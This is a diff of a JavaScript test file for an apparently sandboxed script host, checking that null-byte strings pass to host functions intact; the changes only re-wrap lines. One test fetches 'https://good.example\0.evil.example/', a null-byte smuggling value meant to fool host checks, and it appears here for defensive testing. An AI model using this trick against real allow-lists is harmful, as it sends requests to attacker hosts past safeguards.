@@ -28,8 +28,10 @@ export default {
       it: 'hands them to the host whole, so that no check sees another text than is used',
       source: `export default async (args, ctx) => {
         ctx.log('a\\0b');
-        await ctx.fetch('https://good.example\\0.evil.example/', { body: 'x\\0y', headers: { a: 'b\\0c' } });
-        return [new TextEncoder().encode('\\0a').length, ctx.hex.encode('\\0'), ctx.base64.encode('a\\0b')];
+        await ctx.fetch('https://good.example\\0.evil.example/', { body: 'x\\0y', headers: {
+          a: 'b\\0c' } });
+        return [new TextEncoder().encode('\\0a').length, ctx.hex.encode('\\0'),
+          ctx.base64.encode('a\\0b')];
       }`,
       ends: 'returned',
       returns: [2, '00', 'YQBi'],
@@ -41,7 +43,8 @@ export default {
     },
     {
       it: 'takes them in whole',
-      source: `export default (args) => [args.text.length, args.text.charCodeAt(1), args.lone.charCodeAt(0),
+      source: `export default (args) => [args.text.length, args.text.charCodeAt(1),
+        args.lone.charCodeAt(0),
         new TextDecoder().decode(new Uint8Array([65, 0, 66])).length]`,
       call: { args: '{"text":"a\\u0000b","lone":"\\ud800"}' },
       ends: 'returned',
